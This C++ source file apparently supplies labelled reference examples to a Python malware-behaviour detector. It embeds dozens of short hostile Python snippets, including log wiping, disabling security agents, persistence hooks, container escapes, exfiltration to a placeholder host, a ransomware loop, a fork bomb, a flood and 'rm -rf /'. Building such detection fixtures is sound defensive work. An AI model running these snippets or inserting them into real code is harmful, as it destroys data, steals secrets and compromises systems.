#include "reference_examples.h"

namespace pyverdict::behaviour {
namespace {

constexpr ReferenceExample kRows[] = {
    {"B065", "Debugger check", "debugger-check",
     R"py(
import sys
if sys.gettrace():
    sys.exit()
)py"},
    {"B065", "Debugger check", "debugger-check",
     R"py(
if int(open('/proc/self/status').read().split('TracerPid:')[1].split()[0]) != 0:
    raise SystemExit
)py"},
    {"B066", "VM or sandbox check", "sandbox-check",
     R"py(
import uuid, sys
if hex(uuid.getnode()).startswith('0x080027'):
    sys.exit()
)py"},
    {"B066", "VM or sandbox check", "sandbox-check",
     R"py(
import os, sys
if os.path.exists('C:\\windows\\System32\\vboxguest.sys') or os.getlogin() == 'WDAGUtilityAccount':
    sys.exit()
)py"},
    {"B067", "User-activity or uptime check", "activity-check",
     R"py(
import ctypes
ctypes.windll.user32.GetLastInputInfo(0)
)py"},
    {"B068", "Long sleep before payload", "long-sleep",
     R"py(
import time, os, urllib.request
time.sleep(600)
exec(urllib.request.urlopen('http://h.example.invalid').read())
)py"},
    {"B069", "Delete itself", "self-delete",
     R"py(
import os
os.remove(__file__)
)py"},
    {"B070", "Wipe shell history", "history-wipe",
     R"py(
import os
os.system('history -c; rm ~/.bash_history')
)py"},
    {"B071", "Prevent history logging", "history-off",
     R"py(
import os
os.system('unset HISTFILE; export HISTSIZE=0')
)py"},
    {"B072", "Delete or truncate logs", "log-wipe",
     R"py(
import os
os.remove('/var/log/auth.log')
)py"},
    {"B072", "Delete or truncate logs", "log-wipe",
     R"py(
import os
os.system('journalctl --vacuum-time=1s')
)py"},
    {"B073", "Clear Windows event logs", "windows-log-wipe",
     R"py(
import os
os.system('wevtutil cl Security')
)py"},
    {"B074", "Disable cloud or audit logging", "audit-off",
     R"py(
import boto3
boto3.client('cloudtrail').stop_logging(Name='t')
)py"},
    {"B074", "Disable cloud or audit logging", "audit-off",
     R"py(
import os
os.system('auditctl -e 0')
)py"},
    {"B075", "Stop AV, EDR or monitoring agents", "security-tools-stopped",
     R"py(
import os
os.system('systemctl stop google-cloud-ops-agent')
)py"},
    {"B075", "Stop AV, EDR or monitoring agents", "security-tools-stopped",
     R"py(
import os
os.system('setenforce 0; pkill -9 falcon-sensor')
)py"},
    {"B076", "Firewall tampering", "firewall-off",
     R"py(
import os
os.system('iptables -F; ufw disable')
)py"},
    {"B077", "AMSI/ETW patching, tracing off", "amsi-patch",
     R"py(
import ctypes
ctypes.windll.kernel32.GetProcAddress(ctypes.windll.kernel32.LoadLibraryA(b'amsi.dll'), b'AmsiScanBuffer')
)py"},
    {"B078", "Timestomp", "timestomp",
     R"py(
import os
os.system('touch -r /bin/ls /tmp/x')
)py"},
    {"B079", "Hidden file and location", "hidden-location",
     R"py(
open('/dev/shm/.x', 'w').write('a')
)py"},
    {"B080", "Masquerade as a system process", "masquerade",
     R"py(
import setproctitle
setproctitle.setproctitle('[kworker/0:0]')
)py"},
    {"B081", "Break the process tree and daemonise", "daemonise",
     R"py(
import os
if os.fork(): os._exit(0)
os.setsid()
if os.fork(): os._exit(0)
)py"},
    {"B082", "Silent child process", "silent-output",
     R"py(
import subprocess
subprocess.Popen(['x'], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
)py"},
    {"B083", "Suppress errors around every step", "errors-hidden",
     R"py(
import sys, os
sys.stderr = open(os.devnull, 'w')
)py"},
    {"B084", "XOR, Fernet, AES or RC4 payload", "decrypted-code-executed",
     R"py(
from cryptography.fernet import Fernet
exec(Fernet(key).decrypt(b'gAAAA'))
)py"},
    {"B084", "XOR, Fernet, AES or RC4 payload", "decoded-code-executed",
     R"py(
exec(bytes(b ^ 3 for b in b'sqjmw+2*'))
)py"},
    {"B085", "Steganographic payload", "image-payload",
     R"py(
from PIL import Image
im = Image.open('a.png')
bits = ''
for x in range(im.width):
    bits += str(im.getpixel((x, 0))[0] & 1)
exec(bytes(int(bits[i:i+8], 2) for i in range(0, len(bits), 8)))
)py"},
    {"B086", "Mutex or lock to run once", "run-once",
     R"py(
import os
if os.path.exists('/tmp/.lock'):
    os.kill(int(open('/tmp/.lock').read()), 0)
)py"},
    {"B087", "Compile after delivery", "compiled-on-host",
     R"py(
import os
open('/tmp/a.c', 'w').write(src)
os.system('gcc /tmp/a.c -o /tmp/a && /tmp/a')
)py"},
    {"B088", "Cron", "cron",
     R"py(
import os
os.system('(crontab -l; echo "* * * * * /tmp/a") | crontab -')
)py"},
    {"B088", "Cron", "cron",
     R"py(
open('/etc/cron.d/x', 'w').write('* * * * * root /tmp/a\n')
)py"},
    {"B089", "systemd unit or timer", "systemd-unit",
     R"py(
open('/etc/systemd/system/x.service', 'w').write('[Service]\nExecStart=/tmp/a\n')
import os
os.system('systemctl enable --now x')
)py"},
    {"B090", "authorized_keys", "authorized-keys",
     R"py(
open('/root/.ssh/authorized_keys', 'a').write('ssh-rsa AAAAB3 x\n')
)py"},
    {"B091", "Shell profile or rc files", "shell-profile",
     R"py(
import os
open(os.path.expanduser('~/.bashrc'), 'a').write('/tmp/a &\n')
)py"},
    {"B092", "Python start-up hook", "python-startup",
     R"py(
import site
open(site.getsitepackages()[0] + '/x.pth', 'w').write('import os; os.system("/tmp/a")\n')
)py"},
    {"B093", "LD_PRELOAD or /etc/ld.so.preload", "library-preload",
     R"py(
open('/etc/ld.so.preload', 'w').write('/tmp/x.so\n')
)py"},
    {"B094", "New account or sudoers entry", "account-added",
     R"py(
import os
os.system('useradd -o -u 0 -g 0 x; echo "x:p" | chpasswd')
)py"},
    {"B094", "New account or sudoers entry", "account-added",
     R"py(
open('/etc/sudoers.d/x', 'w').write('x ALL=(ALL) NOPASSWD:ALL\n')
)py"},
    {"B095", "Windows Run key, Startup folder", "windows-autostart",
     R"py(
import winreg
k = winreg.OpenKey(winreg.HKEY_CURRENT_USER, 'Software\\Microsoft\\Windows\\CurrentVersion\\Run', 0, winreg.KEY_SET_VALUE)
winreg.SetValueEx(k, 'x', 0, winreg.REG_SZ, 'c:\\x.exe')
)py"},
    {"B096", "Scheduled task", "scheduled-task",
     R"py(
import os
os.system('schtasks /create /tn x /tr c:\\x.exe /sc onlogon')
)py"},
    {"B097", "LaunchAgent or LaunchDaemon", "launch-agent",
     R"py(
import os
open(os.path.expanduser('~/Library/LaunchAgents/x.plist'), 'w').write('<plist/>')
os.system('launchctl load ~/Library/LaunchAgents/x.plist')
)py"},
    {"B098", "Web shell", "web-shell",
     R"py(
from flask import Flask, request
import os
app = Flask(__name__)
@app.route('/x')
def x():
    return os.popen(request.args['cmd']).read()
)py"},
    {"B099", "Trojanised package or binary", "trojanised-package",
     R"py(
open('/usr/lib/python3/dist-packages/requests/__init__.py', 'a').write('import os\n')
)py"},
    {"B100", "Kernel module or rootkit load", "kernel-module",
     R"py(
import os
os.system('insmod /tmp/x.ko')
)py"},
    {"B101", "Self-propagation in code repositories", "repository-spreading",
     R"py(
import os
for p in os.listdir('.'):
    os.system('cd ' + p + ' && npm publish')
)py"},
    {"B101", "Self-propagation in code repositories", "repository-spreading",
     R"py(
import os
open(p + '/.github/workflows/x.yml', 'w').write('on: push\njobs: {}')
os.system('git push https://' + os.environ.get('GITHUB_TOKEN') + '@github.com/a/b')
)py"},
    {"B102", "setuid and capabilities", "setuid",
     R"py(
import os
os.chmod('/bin/bash', 0o4755)
)py"},
    {"B102", "setuid and capabilities", "setuid",
     R"py(
import os
os.system('setcap cap_setuid+ep /tmp/python')
)py"},
    {"B103", "sudo abuse", "sudo-password",
     R"py(
import os
os.system('echo pw | sudo -S id')
)py"},
    {"B104", "UAC bypass", "uac-bypass",
     R"py(
import os
os.system('reg add HKCU\\Software\\Classes\\ms-settings\\shell\\open\\command /d c:\\x.exe /f && fodhelper.exe')
)py"},
    {"B105", "Local exploit", "local-exploit",
     R"py(
import os
os.system('./pwnkit')
)py"},
    {"B106", "Docker socket escape", "docker-socket",
     R"py(
import socket
s = socket.socket(socket.AF_UNIX)
s.connect('/var/run/docker.sock')
s.send(b'POST /containers/create HTTP/1.1\r\n\r\n')
)py"},
    {"B106", "Docker socket escape", "privileged-container",
     R"py(
import docker
docker.from_env().containers.run('alpine', 'sh', privileged=True, volumes={'/': {'bind': '/host'}})
)py"},
    {"B107", "nsenter, chroot /host, unshare", "namespace-escape",
     R"py(
import os
os.system('nsenter -t 1 -m -u -i -n sh')
)py"},
    {"B107", "nsenter, chroot /host, unshare", "namespace-escape",
     R"py(
import os
os.system('chroot /host sh')
)py"},
    {"B108", "cgroup release_agent, core_pattern, uevent_helper", "cgroup-escape",
     R"py(
open('/sys/fs/cgroup/rdma/release_agent', 'w').write('/cmd')
)py"},
    {"B108", "cgroup release_agent, core_pattern, uevent_helper", "cgroup-escape",
     R"py(
open('/proc/sys/kernel/core_pattern', 'w').write('|/tmp/x')
)py"},
    {"B109", "Host file system and device access", "host-device",
     R"py(
import os
os.system('mkdir /mnt/h; mount /dev/sda1 /mnt/h')
)py"},
    {"B109", "Host file system and device access", "host-device",
     R"py(
open('/proc/1/root/etc/crontab', 'a').write('x')
)py"},
    {"B110", "/proc/self/exe overwrite (runc)", "runtime-overwrite",
     R"py(
import os
fd = os.open('/proc/self/exe', os.O_RDONLY)
open('/proc/self/fd/%d' % fd, 'wb').write(data)
)py"},
    {"B111", "Service-account token use", "cluster-by-token",
     R"py(
import requests
t = open('/var/run/secrets/kubernetes.io/serviceaccount/token').read()
requests.get('https://kubernetes.default.svc/api/v1/pods', headers={'Authorization': 'Bearer ' + t}, verify=False)
)py"},
    {"B112", "Secrets, pods and roles through the K8s API", "cluster-secrets",
     R"py(
from kubernetes import client
client.CoreV1Api().list_secret_for_all_namespaces()
)py"},
    {"B112", "Secrets, pods and roles through the K8s API", "cluster-takeover",
     R"py(
from kubernetes import client
client.RbacAuthorizationV1Api().create_cluster_role_binding({'roleRef': {'name': 'cluster-admin'}})
)py"},
    {"B113", "Kubelet access", "kubelet-access",
     R"py(
import requests
requests.post('https://192.0.2.4:10250/run/default/p/c', data={'cmd': 'id'}, verify=False)
)py"},
    {"B114", "Malicious image build", "foreign-image-build",
     R"py(
import os
os.system('docker build -t x https://h.example.invalid/Dockerfile')
)py"},
    {"B115", "Screenshot", "screenshot",
     R"py(
from PIL import ImageGrab
import requests
ImageGrab.grab().save('a.png')
requests.post('http://h.example.invalid', files={'f': open('a.png', 'rb')})
)py"},
    {"B116", "Webcam or microphone", "camera-microphone",
     R"py(
import cv2, requests
c = cv2.VideoCapture(0)
ok, f = c.read()
cv2.imwrite('a.png', f)
requests.post('http://h.example.invalid', files={'f': open('a.png', 'rb')})
)py"},
    {"B117", "Clipboard reading or clipper", "clipper",
     R"py(
import pyperclip, re, time
while True:
    t = pyperclip.paste()
    if re.match(r'^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}$', t):
        pyperclip.copy('bc1qxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx')
    time.sleep(1)
)py"},
    {"B118", "E-mail or chat theft", "mail-theft",
     R"py(
import os, shutil
shutil.make_archive('/tmp/t', 'zip', os.environ['APPDATA'] + '\\Thunderbird\\Profiles')
)py"},
    {"B119", "Archive before exfiltration", "archive-and-send",
     R"py(
import shutil, requests, os
shutil.make_archive('/tmp/a', 'zip', os.path.expanduser('~/Documents'))
requests.post('http://h.example.invalid', files={'f': open('/tmp/a.zip', 'rb')})
)py"},
    {"B120", "Discord, Slack or Telegram webhook", "webhook",
     R"py(
import requests
requests.post('https://discord.com/api/webhooks/123456789012345678/abcdefghijklmnopqrstuvwxyzabcdefghijklmnopqrstuvwxyz0123456789ABCD', json={'content': 'x'})
)py"},
    {"B120", "Discord, Slack or Telegram webhook", "telegram-bot",
     R"py(
import requests
requests.post('https://api.telegram.org/bot' + token + '/sendDocument', files={'document': f})
)py"},
    {"B121", "Paste, file-drop and cloud upload", "file-drop-upload",
     R"py(
import requests
requests.post('https://transfer.sh/', files={'f': open('/tmp/a', 'rb')})
)py"},
    {"B122", "POST of collected data", "collected-data-sent",
     R"py(
import requests, os, platform
d = {'env': dict(os.environ), 'p': open('/etc/passwd').read(), 'h': platform.node()}
requests.post('http://h.example.invalid/c', json=d)
)py"},
    {"B123", "FTP, SMTP, SCP out", "ftp-exfiltration",
     R"py(
import ftplib
f = ftplib.FTP('h.example.invalid', 'u', 'p')
f.storbinary('STOR a', open('/tmp/a', 'rb'))
)py"},
    {"B123", "FTP, SMTP, SCP out", "mail-exfiltration",
     R"py(
import smtplib
s = smtplib.SMTP('smtp.example.invalid', 587)
s.login('u@example.invalid', 'p')
s.sendmail('u@example.invalid', 'u@example.invalid', open('/tmp/a').read())
)py"},
    {"B124", "Cloud account transfer", "cloud-transfer",
     R"py(
import os
os.system('gsutil iam ch allUsers:objectViewer gs://b')
)py"},
    {"B125", "Cryptominer", "miner",
     R"py(
import os
os.system('./xmrig -o stratum+tcp://pool.example.invalid:3333 --donate-level 1')
)py"},
    {"B126", "Kill rival miners or high-CPU processes", "rivals-killed",
     R"py(
import os
os.system('pkill -f xmrig; pkill -f kinsing')
)py"},
    {"B126", "Kill rival miners or high-CPU processes", "rivals-killed",
     R"py(
import os
os.system("ps aux | awk '$3>40{print $2}' | xargs kill -9")
)py"},
    {"B127", "Huge pages, MSR, CPU tuning for mining", "mining-tuning",
     R"py(
import os
os.system('sysctl -w vm.nr_hugepages=128; modprobe msr')
)py"},
    {"B128", "Ransomware: walk + encrypt + rename", "ransomware",
     R"py(
import os
from cryptography.fernet import Fernet
f = Fernet(Fernet.generate_key())
for d, _, fs in os.walk('/home'):
    for n in fs:
        p = os.path.join(d, n)
        data = open(p, 'rb').read()
        open(p + '.locked', 'wb').write(f.encrypt(data))
        os.remove(p)
open('README_DECRYPT.txt', 'w').write('Your files have been encrypted. Send BTC')
)py"},
    {"B129", "Delete shadow copies or backups", "recovery-prevented",
     R"py(
import os
os.system('vssadmin delete shadows /all /quiet')
)py"},
    {"B130", "Destructive wipe", "destruction",
     R"py(
import os
os.system('rm -rf / --no-preserve-root')
)py"},
    {"B130", "Destructive wipe", "destruction",
     R"py(
open('/dev/sda', 'wb').write(b'\0' * 512)
)py"},
    {"B131", "Fork or memory bomb, shutdown", "resource-exhaustion",
     R"py(
import os
while True:
    os.fork()
)py"},
    {"B132", "Flood / DDoS", "flood",
     R"py(
import socket, random, threading
def go():
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    while True:
        s.sendto(random._urandom(1024), ('192.0.2.3', 80))
for i in range(100):
    threading.Thread(target=go).start()
)py"},
    {"B133", "Traffic-sharing, proxyware or GPU hijack", "proxyware",
     R"py(
import os
os.system('docker run traffmonetizer/cli start accept --token x')
)py"},
    {"B134", "Defacement or wallpaper", "defacement",
     R"py(
import ctypes
ctypes.windll.user32.SystemParametersInfoW(20, 0, 'c:\\x.jpg', 0)
)py"},
    {"B135", "SSH spread with harvested keys", "ssh-spreading",
     R"py(
import paramiko, re
for h in re.findall(r'\S+', open('/root/.ssh/known_hosts').read()):
    c = paramiko.SSHClient()
    c.connect(h, username='root', key_filename='/root/.ssh/id_rsa')
    c.open_sftp().put(__file__, '/tmp/x.py')
    c.exec_command('python3 /tmp/x.py')
)py"},
    {"B136", "SMB, WMI, WinRM", "windows-remote-execution",
     R"py(
import wmi
wmi.WMI('192.0.2.8', user='u', password='p').Win32_Process.Create(CommandLine='cmd /c x')
)py"},
    {"B137", "Exposed-service exploitation (Redis, Docker API, Jupyter, Hadoop)", "service-exploitation",
     R"py(
import redis
r = redis.Redis('192.0.2.6')
r.config_set('dir', '/var/spool/cron')
r.config_set('dbfilename', 'root')
r.set('x', '\n* * * * * curl http://h.example.invalid | sh\n')
r.save()
)py"},
    {"B138", "Spearphish attachment builder or mass mailer", "mass-mail",
     R"py(
import smtplib
from email.mime.multipart import MIMEMultipart
s = smtplib.SMTP('smtp.example.invalid')
for to in open('list.txt'):
    m = MIMEMultipart()
    m['From'] = 'Support <support@bank.example.invalid>'
    s.sendmail('support@bank.example.invalid', to.strip(), m.as_string())
)py"},
    {"B139", "Typosquat or dependency confusion", "install-hook-network",
     R"py(
from setuptools import setup
import urllib.request, socket
urllib.request.urlopen('http://h.example.invalid/?h=' + socket.gethostname())
setup(name='requestz')
)py"},
};

}  // namespace

std::span<const ReferenceExample> reference_hiding_and_impact() { return kRows; }

}  // namespace pyverdict::behaviour
